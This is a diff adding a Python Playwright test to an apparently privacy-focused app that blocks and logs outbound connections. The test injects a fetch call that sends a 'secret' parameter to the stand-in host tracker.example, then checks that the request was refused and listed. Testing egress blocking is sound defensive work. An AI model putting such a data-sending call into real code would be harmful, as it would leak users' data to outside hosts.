@@ -91,3 +91,18 @@ def test_a_mail_is_a_connection_that_home_counts_and_that_can_be_forbidden(
     assert downloading.value.suggested_filename == "ce-qui-est-sorti.csv"
     assert downloading.value.path().read_text("utf-8").count("\n") == 3
     visit.check("egress-forbidden")
+
+
+def test_a_page_that_calls_home_is_kept_in_and_told(person: Person, visiting: Visiting) -> None:
+    visit = visiting(person)
+    visit.allow(r"tracker\.example")
+    page = visit.open("place")
+    with page.expect_request("**/.alcove/kept-in"):
+        page.evaluate("fetch('https://tracker.example/collect?secret=1').catch(() => null)")
+    page = visit.open("egress")
+    line = page.get_by_role("region", name="Chaque connexion").get_by_role("listitem")
+    expect(line).to_have_count(1)
+    expect(line).to_contain_text("tracker.example")
+    expect(line).to_contain_text("La page d’une application, retenue par le navigateur")
+    expect(line).to_contain_text("refusée, rien n’est parti")
+    visit.check("egress-page")
